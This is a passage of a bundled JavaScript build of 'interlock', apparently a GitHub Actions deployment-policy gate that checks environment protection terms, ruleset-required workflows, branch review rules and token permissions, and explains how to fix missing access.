export const id = 7116;
export const ids = [7116];
export const modules = {

/***/ 21213:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   D: () => (/* binding */ digestAlgorithms)
/* harmony export */ });
/* unused harmony export refusalCodes */
const digestAlgorithms = ['sha256', 'sha384', 'sha512'];
const refusalCodes = (/* unused pure expression or super */ null && ([
    'malformed',
    'too-large',
    'unsupported',
    'subject-mismatch',
    'weak-subject',
    'signature-invalid',
    'certificate-untrusted',
    'certificate-unfit',
    'log-missing',
    'log-invalid',
    'time-missing',
    'time-invalid',
    'sct-missing',
    'root-untrusted',
    'key-unknown',
    'key-expired',
    'bytes-too-large',
    'verification-failed',
]));


/***/ }),

/***/ 69883:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   v: () => (/* binding */ strictestTerms),
/* harmony export */   y: () => (/* binding */ environmentTermsOf)
/* harmony export */ });
/* harmony import */ var _glob_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(60379);
/* harmony import */ var _location_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(54582);


function environmentTermsOf(entries, name) {
    const meant = entries.filter(({ pattern }) => isMeant(pattern, name));
    const layers = [...new Set(meant.map(layerOf))].toSorted((a, b) => a - b);
    return layers.reduce((above, layer) => {
        const own = meant.filter((entry) => layerOf(entry) === layer).toSorted(bySpecificity);
        const closed = overlaid(undefined, own.filter(({ isOpened }) => isOpened !== true));
        const tightened = above === undefined || closed === undefined ? (above ?? closed) : strictestTerms(above, closed);
        return overlaid(tightened, own.filter(({ isOpened }) => isOpened === true));
    }, undefined);
}
function isMeant(pattern, name) {
    return (0,_glob_js__WEBPACK_IMPORTED_MODULE_0__/* .matchesGlob */ .kt)(pattern.toLowerCase(), name.toLowerCase());
}
function layerOf({ layer }) {
    return layer ?? 0;
}
function bySpecificity(a, b) {
    const globs = Number((0,_glob_js__WEBPACK_IMPORTED_MODULE_0__/* .isGlob */ .fg)(b.pattern)) - Number((0,_glob_js__WEBPACK_IMPORTED_MODULE_0__/* .isGlob */ .fg)(a.pattern));
    return globs || a.pattern.length - b.pattern.length || (0,_location_js__WEBPACK_IMPORTED_MODULE_1__/* .compareText */ .n6)(a.pattern, b.pattern);
}
function overlaid(ground, entries) {
    return entries.reduce((below, entry) => {
        return {
            reviewers: entry.reviewers ?? below?.reviewers,
            selfReview: entry.selfReview ?? below?.selfReview,
            adminBypass: entry.adminBypass ?? below?.adminBypass,
            refs: entry.refs ?? below?.refs,
            artifacts: entry.artifacts ?? below?.artifacts,
            approval: entry.approval ?? below?.approval,
            window: entry.window ?? below?.window,
        };
    }, ground);
}
function strictestTerms(above, below) {
    return {
        reviewers: above.reviewers === undefined ? below.reviewers : Math.max(above.reviewers, below.reviewers ?? 0),
        selfReview: below.selfReview === 'forbidden' ? 'forbidden' : (above.selfReview ?? below.selfReview),
        adminBypass: below.adminBypass === 'forbidden' ? 'forbidden' : (above.adminBypass ?? below.adminBypass),
        refs: commonRefs(above.refs, below.refs),
        artifacts: below.artifacts === 'required' ? 'required' : (above.artifacts ?? below.artifacts),
        approval: above.approval === undefined || above.approval === 'any' ? (below.approval ?? above.approval) : above.approval,
        window: above.window ?? below.window,
    };
}
function commonRefs(above, below) {
    if (above === undefined || below === undefined)
        return above ?? below;
    const common = below.filter((ref) => above.some((allowed) => allowed === ref || (!(0,_glob_js__WEBPACK_IMPORTED_MODULE_0__/* .isGlob */ .fg)(ref) && (0,_glob_js__WEBPACK_IMPORTED_MODULE_0__/* .matchesGlob */ .kt)(allowed, ref))));
    return common.length > 0 ? common : above;
}


/***/ }),

/***/ 6214:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   L5: () => (/* binding */ unknown),
/* harmony export */   cw: () => (/* binding */ isMany),
/* harmony export */   eO: () => (/* binding */ known),
/* harmony export */   rQ: () => (/* binding */ gap),
/* harmony export */   uI: () => (/* binding */ gapOfUnknown)
/* harmony export */ });
/* unused harmony export gapCauses */
const gapCauses = (/* unused pure expression or super */ null && ([
    'forbidden',
    'absent',
    'limited',
    'outage',
    'unsupported',
    'no-token',
    'offline',
    'invalid',
    'limit',
    'truncated',
    'empty',
    'unresolvable',
]));
function gap(fields) {
    return { kind: 'gap', ...fields };
}
function gapOfUnknown(item, { cause, reason, remedy }) {
    return gap({ item, cause, why: reason, remedy });
}
function known(value, source) {
    return { state: 'known', value, source };
}
function unknown(fields) {
    return { state: 'unknown', ...fields };
}
function isMany(value) {
    return typeof value === 'object' && value !== null && 'items' in value && 'gaps' in value && Array.isArray(value.gaps);
}


/***/ }),

/***/ 22007:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   h: () => (/* binding */ suggestion),
/* harmony export */   p: () => (/* binding */ nearest)
/* harmony export */ });
const lengthLimit = 100;
function nearest(word, candidates) {
    if (word.length > lengthLimit)
        return undefined;
    const limit = word.length < 5 ? 1 : 2;
    let best;
    for (const text of candidates) {
        if (Math.abs(text.length - word.length) > limit)
            continue;
        const distance = editDistance(word.toLowerCase(), text.toLowerCase());
        if (distance <= limit && (best === undefined || distance < best.distance))
            best = { text, distance };
    }
    return best?.text;
}
function suggestion(word, candidates) {
    const text = nearest(word, candidates);
    return text === undefined ? '' : ` Did you mean "${text}"?`;
}
function editDistance(a, b) {
    const rows = [];
    const at = (i, j) => rows[i]?.[j] ?? Math.max(i, j);
    for (let i = 1; i <= a.length; i += 1) {
        const row = [];
        rows[i] = row;
        for (let j = 1; j <= b.length; j += 1) {
            const replaced = at(i - 1, j - 1) + (a[i - 1] === b[j - 1] ? 0 : 1);
            const isSwap = i > 1 && j > 1 && a[i - 1] === b[j - 2] && a[i - 2] === b[j - 1];
            row[j] = Math.min(replaced, at(i - 1, j) + 1, at(i, j - 1) + 1, isSwap ? at(i - 2, j - 2) + 1 : replaced);
        }
    }
    return at(a.length, b.length);
}


/***/ }),

/***/ 7220:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   X: () => (/* binding */ unjudgedNotice)
/* harmony export */ });
/* unused harmony export unjudgedKeys */
function unjudgedKeys(policy) {
    const { environments } = policy;
    const sizes = [
        ['secrets-managers', policy.secretsManagers.length],
        ['privileged-variables', policy.privilegedVariables.length],
        ['environments.*.admin-bypass', environments.filter(({ adminBypass }) => adminBypass === 'forbidden').length],
        ['environments.*.window', environments.filter(({ window }) => window !== undefined).length],
        ['windows', Object.keys(policy.windows).length],
    ];
    return sizes.flatMap(([key, size]) => (size === 0 ? [] : [key]));
}
function unjudgedNotice(policy) {
    const keys = unjudgedKeys(policy).map((key) => `\`${key}\``);
    if (keys.length === 0)
        return undefined;
    return `The policy sets ${keys.join(', ')}, and no rule of this version judges by ${keys.length === 1 ? 'it' : 'them'}: nothing there is enforced`;
}


/***/ }),

/***/ 81149:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   m: () => (/* binding */ isWithinGlob)
/* harmony export */ });
/* harmony import */ var _glob_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(60379);

function isWithinGlob(inner, outer) {
    if (inner === outer || outer === 'any')
        return true;
    return inner !== 'any' && !(0,_glob_js__WEBPACK_IMPORTED_MODULE_0__/* .isGlob */ .fg)(inner) && (0,_glob_js__WEBPACK_IMPORTED_MODULE_0__/* .matchesGlob */ .kt)(outer, inner);
}


/***/ }),

/***/ 4930:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   U: () => (/* binding */ toolName),
/* harmony export */   f: () => (/* binding */ toolVersion)
/* harmony export */ });
const toolName = 'interlock';
const toolVersion = '0.1.0';


/***/ }),

/***/ 13257:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   i: () => (/* binding */ factAt),
/* harmony export */   u: () => (/* binding */ defineFact)
/* harmony export */ });
function defineFact(definition) {
    const { collect, prefers, ...rest } = definition;
    return { ...rest, prefers: prefers ?? [], collect: collect };
}
function factAt(facts, key) {
    return facts.get(key);
}


/***/ }),

/***/ 40835:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   E: () => (/* binding */ ofAnswer),
/* harmony export */   P: () => (/* binding */ manyOfAnswer)
/* harmony export */ });
/* harmony import */ var _core_facts_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(6214);
/* harmony import */ var _unknown_of_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(65245);


function ofAnswer(answer, source, needs) {
    return answer.state === 'value' ? (0,_core_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .known */ .eO)(answer.value, source) : (0,_unknown_of_js__WEBPACK_IMPORTED_MODULE_0__/* .unknownOf */ .KO)(answer, needs);
}
function manyOfAnswer(answer, source, needs) {
    return answer.state === 'value' ? (0,_core_facts_js__WEBPACK_IMPORTED_MODULE_1__/* .known */ .eO)({ items: answer.value, gaps: [] }, source) : (0,_unknown_of_js__WEBPACK_IMPORTED_MODULE_0__/* .unknownOf */ .KO)(answer, needs);
}


/***/ }),

/***/ 65245:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   KO: () => (/* binding */ unknownOf),
/* harmony export */   Op: () => (/* binding */ notAsked),
/* harmony export */   ZR: () => (/* binding */ unknownElsewhere),
/* harmony export */   bE: () => (/* binding */ refusedAdminToken),
/* harmony export */   iT: () => (/* binding */ gapOf),
/* harmony export */   oI: () => (/* binding */ noAdminToken),
/* harmony export */   qL: () => (/* binding */ runAgain),
/* harmony export */   w7: () => (/* binding */ nothingRuns)
/* harmony export */ });
/* harmony import */ var _core_facts_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(6214);
/* harmony import */ var _core_permissions_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(74065);


const runAgain = 'run the job again; where reviewers approved this run, start a new one';
function unknownOf(failure, needs) {
    return (0,_core_facts_js__WEBPACK_IMPORTED_MODULE_0__/* .unknown */ .L5)({ cause: causeOf(failure), reason: failure.why, remedy: remedyOf(failure, needs) });
}
function gapOf(item, failure, needs) {
    return (0,_core_facts_js__WEBPACK_IMPORTED_MODULE_0__/* .gap */ .rQ)({ item, cause: causeOf(failure), why: failure.why, remedy: remedyOf(failure, needs) });
}
function causeOf(failure) {
    return failure.state === 'forbidden' && failure.isPerhapsAbsent === true ? 'absent' : failure.state;
}
function remedyOf(failure, needs) {
    switch (failure.state) {
        case 'forbidden': {
            const missing = Object.keys(failure.permissions).length > 0 ? failure.permissions : needs;
            if (Object.keys(missing).length === 0)
                return 'check the input `token`: every token that may see the repository may ask this';
            const grant = `grant the job's token:\n${(0,_core_permissions_js__WEBPACK_IMPORTED_MODULE_1__/* .permissionsYaml */ .M)(missing)}`;
            return failure.isPerhapsAbsent === true ? `make what is missing, or correct its name; where it is there, ${grant}` : grant;
        }
        case 'absent':
            return 'make what is missing, or correct its name';
        case 'limited':
        case 'outage':
            return runAgain;
        case 'truncated':
            return 'reduce what is listed, so that GitHub gives all of it';
        case 'unsupported':
            return 'ask a GitHub that offers it, or say `on-unknown: warn` for the rule in the policy';
    }
}
function unknownElsewhere(failure, { owner, name }, needs) {
    const found = unknownOf(failure, needs);
    if (failure.state !== 'forbidden')
        return found;
    const rights = Object.entries(needs).map(([scope, level]) => `\`${scope}: ${level}\``);
    const remedy = `a job's own token sees no other private repository: give the token of an App that has ${rights.join(' and ')} for ${owner}/${name} as \`token\``;
    return { ...found, reason: `${owner}/${name}: ${found.reason}`, remedy };
}
const notAsked = (0,_core_facts_js__WEBPACK_IMPORTED_MODULE_0__/* .unknown */ .L5)({
    cause: 'offline',
    reason: 'nothing was asked of the platform',
    remedy: 'run it as the Action, or name the repository with `--repo OWNER/NAME` and give a token in GH_TOKEN',
});
const nothingRuns = (0,_core_facts_js__WEBPACK_IMPORTED_MODULE_0__/* .unknown */ .L5)({
    cause: 'offline',
    reason: 'no workflow runs here',
    remedy: 'run it as the Action',
});
const noAdminToken = (0,_core_facts_js__WEBPACK_IMPORTED_MODULE_0__/* .unknown */ .L5)({
    cause: 'no-token',
    reason: "the job's own token cannot see it",
    remedy: 'give the token of an App as `admin-token`, in a workflow that no change can write',
});
function refusedAdminToken(failure, right) {
    const why = `with \`admin-token\`: ${failure.why}`;
    if (failure.state !== 'forbidden')
        return unknownOf({ ...failure, why }, {});
    const remedy = `give the App behind \`admin-token\` the permission \`${right}: read\` for this repository`;
    return (0,_core_facts_js__WEBPACK_IMPORTED_MODULE_0__/* .unknown */ .L5)({ cause: 'forbidden', reason: why, remedy });
}


/***/ }),

/***/ 91390:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   c: () => (/* binding */ gapItem)
/* harmony export */ });
/* harmony import */ var _place_text_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(63803);

function gapItem({ item, location }) {
    if (location === undefined)
        return item;
    const place = (0,_place_text_js__WEBPACK_IMPORTED_MODULE_0__/* .placeText */ .Z)(location);
    return item === location.path ? place : `${place}: ${item}`;
}


/***/ }),

/***/ 63803:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Z: () => (/* binding */ placeText)
/* harmony export */ });
/* harmony import */ var _core_location_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(54582);
/* harmony import */ var _printable_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(1319);
/* harmony import */ var _shorten_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(51669);



const longestPath = 300;
function placeText(location) {
    const name = (0,_shorten_js__WEBPACK_IMPORTED_MODULE_1__/* .shorten */ .m)((0,_printable_js__WEBPACK_IMPORTED_MODULE_0__/* .printable */ .g)((0,_core_location_js__WEBPACK_IMPORTED_MODULE_2__/* .locationName */ .zb)(location)), longestPath);
    if ((0,_core_location_js__WEBPACK_IMPORTED_MODULE_2__/* .isFileLocation */ .Cq)(location))
        return `${name}:${location.start.line}:${location.start.column}`;
    return 'container' in location ? `${name}:${location.line}` : name;
}


/***/ }),

/***/ 51669:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   m: () => (/* binding */ shorten)
/* harmony export */ });
function shorten(text, limit) {
    if (text.length <= limit)
        return text;
    const kept = text.slice(0, limit).replace(/[\ud800-\udbff]$/, '');
    return `${kept}\u2026 (${text.length - kept.length} more characters)`;
}


/***/ }),

/***/ 88101:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   K: () => (/* binding */ defineRule)
/* harmony export */ });
function defineRule(definition) {
    const { meta, needs, wants, evaluate } = definition;
    return { meta, needs, wants: wants ?? [], evaluate: evaluate };
}


/***/ }),

/***/ 48935:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   P: () => (/* binding */ eachGapOnce)
/* harmony export */ });
function eachGapOnce(results) {
    return results.filter((one, index) => one.kind !== 'gap' || results.findIndex((other) => isSameGap(one, other)) === index);
}
function isSameGap(a, b) {
    return b.kind === 'gap' && a.item === b.item && a.cause === b.cause && a.why === b.why;
}


/***/ }),

/***/ 60423:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   $t: () => (/* binding */ placeOf),
/* harmony export */   A0: () => (/* binding */ usedEnvironments),
/* harmony export */   Fp: () => (/* binding */ namedAt),
/* harmony export */   f5: () => (/* binding */ settingsOf),
/* harmony export */   gj: () => (/* binding */ isSameEnvironment)
/* harmony export */ });
const maxRelated = 10;
function usedEnvironments(uses) {
    const first = uses.filter(({ environment }, index) => uses.findIndex((one) => isSameEnvironment(one.environment, environment)) === index);
    return first.map(({ environment: name }) => ({ name, uses: uses.filter(({ environment }) => isSameEnvironment(environment, name)) }));
}
function isSameEnvironment(a, b) {
    return a.toLowerCase() === b.toLowerCase();
}
function settingsOf({ name, url }) {
    return { object: 'environment', name, ...(url === undefined ? {} : { url }) };
}
function placeOf({ name, uses }) {
    return uses.find(({ location }) => location !== undefined)?.location ?? { object: 'environment', name };
}
function namedAt({ uses }) {
    return uses
        .flatMap(({ job, location }) => (location === undefined ? [] : [{ location, message: `Job \`${job}\` uses it.` }]))
        .slice(0, maxRelated);
}


/***/ }),

/***/ 57116:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

// ESM COMPAT FLAG
__webpack_require__.r(__webpack_exports__);

// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  collectors: () => (/* reexport */ commonCollectors),
  judge: () => (/* reexport */ judge),
  rules: () => (/* reexport */ rules)
});

// EXTERNAL MODULE: ./build/src/core/facts.js
var core_facts = __webpack_require__(6214);
// EXTERNAL MODULE: ./build/src/facts/define-fact.js
var define_fact = __webpack_require__(13257);
// EXTERNAL MODULE: ./build/src/facts/unknown-of.js
var unknown_of = __webpack_require__(65245);
;// CONCATENATED MODULE: ./build/src/facts/binding.js



const binding = (0,define_fact/* defineFact */.u)({
    key: 'binding',
    needs: [],
    prefers: ['branchRules', 'tokenClaims'],
    scope: 'run',
    permissions: { contents: 'read' },
    tier: 1,
    collect: async (question, { branchRules, tokenClaims }, { world }) => {
        const { run } = question;
        if (run === undefined || world.platform === undefined)
            return (0,core_facts/* known */.eO)(commandLine, 'the run');
        const required = ofRequiredWorkflow(branchRules, tokenClaims);
        if (required.value)
            return (0,core_facts/* known */.eO)(required, 'rules of the branch, and the identity token');
        const source = 'the run, and rules of the default branch';
        return (0,core_facts/* known */.eO)(await ofDefaultBranch({ question, run, branchRules, tokenClaims }, required, world.platform), source);
    },
});
const commandLine = {
    value: false,
    way: undefined,
    reason: 'the command line never binds',
    remedy: 'run it as the Action',
    cause: undefined,
};
function unbound(reason, remedy, cause) {
    return { value: false, way: undefined, reason, remedy, cause };
}
function untold(what, { cause, reason, remedy }) {
    return unbound(`${what}: ${reason}`, remedy, cause);
}
const requireIt = 'let a ruleset require this workflow at a full commit (docs/adopting.md, "A workflow that a ruleset requires")';
function ofRequiredWorkflow(rules, claims) {
    if (rules.state === 'unknown')
        return untold('the rules of the branch could not be asked', rules);
    const required = rules.value.rules.flatMap((rule) => (rule.kind === 'workflows' ? rule.workflows : []));
    if (required.length === 0)
        return unbound('no ruleset requires this workflow', requireIt);
    if (claims.state === 'unknown')
        return untold('which workflow runs could not be proven', claims);
    const same = required.filter((workflow) => isRunning(workflow, claims.value));
    if (same.length === 0)
        return unbound('the workflow that a ruleset requires is another one', requireIt);
    if (same.some(({ sha }) => sha !== undefined && sha === claims.value['job_workflow_sha'])) {
        return {
            value: true,
            way: 'required-workflow',
            reason: 'a ruleset requires this workflow at the commit that runs',
            remedy: '',
            cause: undefined,
        };
    }
    return unbound('the ruleset does not require this workflow at the commit that runs, so whoever can push there can change it', requireIt);
}
function isRunning({ path }, claims) {
    const running = claims['job_workflow_ref'] ?? '';
    return running !== '' && running === claims['workflow_ref'] && pathOf(running) === path;
}
function pathOf(workflowRef) {
    return /^[^/@]+\/[^/@]+\/([^@]+)@/.exec(workflowRef)?.[1];
}
const startedByPullRequests = new Set([
    'pull_request',
    'pull_request_target',
    'pull_request_review',
    'pull_request_review_comment',
    'issue_comment',
    'workflow_run',
]);
async function ofDefaultBranch(standing, required, platform) {
    const { question, run, branchRules, tokenClaims } = standing;
    const { event, defaultBranch } = question;
    if (event === undefined || startedByPullRequests.has(event)) {
        return unbound(`a pull request can start \`${event ?? 'this'}\`, and ${required.reason}`, required.remedy, required.cause);
    }
    if (defaultBranch === undefined)
        return unbound('the default branch is not known', 'grant the job `contents: read`', 'empty');
    if (branchRules.state === 'unknown')
        return required;
    if (branchRules.value.branch !== defaultBranch.name)
        return required;
    if (!isReviewed(branchRules.value)) {
        const reason = `no ruleset demands a reviewed pull request for \`${defaultBranch.name}\` (classic branch protection cannot be seen with this token)`;
        return unbound(reason, `add a ruleset for \`${defaultBranch.name}\` that requires a pull request with at least one approval`);
    }
    const commit = tokenClaims.state === 'known' ? (tokenClaims.value['workflow_sha'] ?? '') : run.workflowSha;
    return reachedBranch(await platform.isAncestor(commit, defaultBranch.commit), defaultBranch.name);
}
function isReviewed({ rules }) {
    return rules.some((rule) => rule.kind === 'pull-request' && rule.approvals > 0);
}
function reachedBranch(answer, branch) {
    if (answer.state !== 'value')
        return untold(`whether this workflow is on \`${branch}\` could not be asked`, (0,unknown_of/* unknownOf */.KO)(answer, { contents: 'read' }));
    if (answer.value) {
        const reason = `the workflow is on \`${branch}\`, where a ruleset demands a reviewed pull request`;
        return { value: true, way: 'default-branch', reason, remedy: '', cause: undefined };
    }
    return unbound(`the workflow that runs is not on \`${branch}\``, `start it from \`${branch}\`, or ${requireIt}`);
}

// EXTERNAL MODULE: ./build/src/facts/of-answer.js
var of_answer = __webpack_require__(40835);
;// CONCATENATED MODULE: ./build/src/facts/branch-rules.js




const branchRules = (0,define_fact/* defineFact */.u)({
    key: 'branchRules',
    needs: [],
    scope: 'run',
    permissions: {},
    tier: 1,
    collect: async ({ run, defaultBranch }, _facts, { world: { platform } }) => {
        if (platform === undefined)
            return unknown_of/* notAsked */.Op;
        const branch = run?.baseBranch ?? defaultBranch?.name;
        if (branch === undefined) {
            const reason = 'GitHub did not say the default branch of the repository';
            return (0,core_facts/* unknown */.L5)({ cause: 'empty', reason, remedy: 'run it in a repository that has a default branch with a commit' });
        }
        return (0,of_answer/* ofAnswer */.E)(await platform.branchRules(branch), `the rules of the branch ${branch}`, {});
    },
});

;// CONCATENATED MODULE: ./build/src/facts/default-token.js



const defaultToken = (0,define_fact/* defineFact */.u)({
    key: 'defaultToken',
    needs: [],
    scope: 'run',
    permissions: {},
    tier: 2,
    collect: async (_question, _facts, { world: { platform, administration } }) => {
        if (platform === undefined)
            return unknown_of/* notAsked */.Op;
        if (administration === undefined)
            return unknown_of/* noAdminToken */.oI;
        const answer = await administration.defaultToken();
        return answer.state === 'value' ? (0,core_facts/* known */.eO)(answer.value, 'the settings of the repository') : (0,unknown_of/* refusedAdminToken */.bE)(answer, 'administration');
    },
});

// EXTERNAL MODULE: ./build/src/workflow/environment-of.js
var environment_of = __webpack_require__(59482);
// EXTERNAL MODULE: ./build/src/workflow/locate.js
var locate = __webpack_require__(54265);
// EXTERNAL MODULE: ./build/src/core/question.js
var core_question = __webpack_require__(44857);
// EXTERNAL MODULE: ./build/src/workflow/callers.js
var workflow_callers = __webpack_require__(28151);
// EXTERNAL MODULE: ./build/src/workflow/placed-job.js
var placed_job = __webpack_require__(39284);
;// CONCATENATED MODULE: ./build/src/facts/jobs-of-deploy.js




function jobsOfDeploy({ run, repository }, workflows) {
    if (run === undefined || repository === undefined)
        return { jobs: [], gaps: [] };
    const fileOf = (workflowRef) => (0,core_question/* workflowPathOf */._)(workflowRef, repository);
    const calledPath = (0,core_question/* calledPathOf */.k)(run);
    const isRunning = ({ id }) => id.value === run.job;
    const own = calledPath === undefined ? fileOf(run.workflowRef) : fileOf(run.jobWorkflowRef);
    const inner = workflows.items.filter(({ file }) => file.path === own).flatMap((workflow) => (0,placed_job/* withDependants */.L)(workflow, isRunning));
    const outer = calledPath === undefined ? [] : callersOf(calledPath, `${repository.owner}/${repository.name}`, workflows.items);
    const isCallerOwn = calledPath !== undefined && fileOf(run.workflowRef) !== undefined;
    const isLost = (own !== undefined && inner.length === 0) || (isCallerOwn && outer.length === 0);
    const judged = [...inner, ...outer];
    const entered = new Set(judged.map(({ workflow }) => workflow.file.path));
    const callees = calledBy(judged, entered, workflows.items);
    const gaps = [...(isLost && workflows.gaps.length === 0 ? [lostGap(run)] : []), ...callees.gaps];
    return { jobs: [...judged, ...callees.jobs], gaps };
}
function lostGap({ job, jobWorkflowRef }) {
    return (0,core_facts/* gap */.rQ)({
        item: `job ${job}`,
        cause: 'empty',
        why: `job \`${job}\` of ${jobWorkflowRef}, or the job that calls it, is not among the workflows of the judged commit`,
        remedy: 'run the workflow at the commit that is deployed, and call the gate from a workflow of this repository',
    });
}
function callersOf(calledPath, repository, workflows) {
    const found = [];
    const entered = new Set();
    const wanted = [calledPath];
    for (let path = wanted.shift(); path !== undefined; path = wanted.shift()) {
        const target = path;
        for (const workflow of workflows) {
            const judged = entered.has(workflow) ? [] : (0,placed_job/* withDependants */.L)(workflow, (job) => (0,placed_job/* isCallOf */.G)(job, target));
            if (judged.length === 0)
                continue;
            entered.add(workflow);
            found.push(...judged);
            wanted.push(`${repository}/${workflow.file.path}`.toLowerCase());
        }
    }
    return found;
}
function calledBy(judged, entered, workflows) {
    const jobs = [];
    const gaps = [];
    const open = [...judged];
    for (let placed = open.shift(); placed !== undefined; placed = open.shift()) {
        const path = calleeOf(placed);
        if (path === undefined || entered.has(path))
            continue;
        entered.add(path);
        const callee = workflows.find(({ file }) => file.path === path);
        if (callee === undefined)
            gaps.push(unreadGap(placed.job.id.value, path));
        const all = callee?.jobs.map((job) => ({ workflow: callee, job })) ?? [];
        jobs.push(...all);
        open.push(...all);
    }
    return { jobs, gaps };
}
function calleeOf({ workflow, job }) {
    if (job.kind !== 'call')
        return undefined;
    const { target } = job.uses;
    return target.kind === 'local' || target.kind === 'self' ? (0,workflow_callers/* placeOfUse */.ct)(workflow.file, target.path) : undefined;
}
function unreadGap(job, path) {
    return (0,core_facts/* gap */.rQ)({
        item: path,
        cause: 'empty',
        why: `job \`${job}\` calls \`${path}\`, which was not read`,
        remedy: 'call a workflow that is there',
    });
}

;// CONCATENATED MODULE: ./build/src/facts/environment-uses.js





const environmentUses = (0,define_fact/* defineFact */.u)({
    key: 'environmentUses',
    needs: ['workflows', 'scene'],
    prefers: ['tokenClaims'],
    scope: 'tree',
    permissions: {},
    tier: 'file',
    collect: async (question, { workflows, scene, tokenClaims }) => {
        if (workflows.state === 'unknown')
            return workflows;
        if (scene.state === 'unknown')
            return scene;
        const claims = tokenClaims.state === 'known' ? tokenClaims.value : undefined;
        const isDeploy = question.stage === 'deploy' && question.run !== undefined;
        const { jobs, gaps } = isDeploy ? jobsOfDeploy(question, workflows.value) : { jobs: allJobs(workflows.value.items), gaps: [] };
        const parts = [...jobs.map((job) => usesOf(job, scene.value, claims)), usesElsewhere(question, claims)];
        const named = parts.flatMap(({ items }) => items);
        const uses = [...named, ...claimedUse(question, named, claims, runningIn(jobs, scene.value))];
        const blind = parts.flatMap((part) => part.gaps);
        return (0,core_facts/* known */.eO)({ items: [...uses, ...askedUse(question, uses)], gaps: [...workflows.value.gaps, ...gaps, ...blind] }, workflows.source);
    },
});
const noUses = { items: [], gaps: [] };
function allJobs(workflows) {
    return workflows.flatMap((workflow) => workflow.jobs.map((job) => ({ workflow, job })));
}
function environment_uses_isRunning({ workflow, job }, { running }) {
    return running?.path === workflow.file.path && running.job === job.id.value;
}
function usesOf(placed, scene, claims) {
    const environment = (0,environment_of/* environmentOf */.p)(placed.job);
    if (environment === undefined)
        return noUses;
    const { name, scalar, isRecorded } = environment;
    const job = placed.job.id.value;
    const location = (0,locate/* locate */.x5)(placed.workflow.file, scalar.span);
    const isReached = environment_uses_isRunning(placed, scene);
    if (name !== undefined)
        return { items: [{ environment: name, job, location, isReached, isRecorded }], gaps: [] };
    return isReached && claims !== undefined ? noUses : { items: [], gaps: [{ ...unresolved(job, scalar.value), location }] };
}
function unresolved(job, expression) {
    const names = expression === undefined ? 'an expression' : `\`${expression}\``;
    return (0,core_facts/* gap */.rQ)({
        item: `job ${job}`,
        cause: 'unresolvable',
        why: `the environment of job \`${job}\` is ${names}, which only a run can evaluate`,
        remedy: 'name the environment itself; of the running job its identity token says it too, with `permissions: {id-token: write}`',
    });
}
function usesElsewhere({ environmentsElsewhere, run }, claims) {
    if (environmentsElsewhere === undefined) {
        const why = 'the running workflow is of another repository and could not be read, so its environments are not known';
        const remedy = 'let the token of the job read that repository';
        return { items: [], gaps: [(0,core_facts/* gap */.rQ)({ item: `job ${run?.job ?? ''}`, cause: 'unresolvable', why, remedy })] };
    }
    const items = [];
    const gaps = [];
    for (const { job, environment, isRunning: isReached, isRecorded } of environmentsElsewhere) {
        if (environment !== undefined)
            items.push({ environment, job, location: undefined, isReached, isRecorded });
        else if (!isReached || claims === undefined)
            gaps.push(unresolved(job, undefined));
    }
    return { items, gaps };
}
function runningIn(jobs, scene) {
    const placed = jobs.find((one) => environment_uses_isRunning(one, scene));
    return placed && { ...placed, environment: (0,environment_of/* environmentOf */.p)(placed.job) };
}
function claimedUse({ run, environmentsElsewhere }, uses, claims, running) {
    const environment = claims?.['environment'] ?? '';
    if (environment === '' || uses.some((use) => use.isReached && isSameName(use.environment, environment)))
        return [];
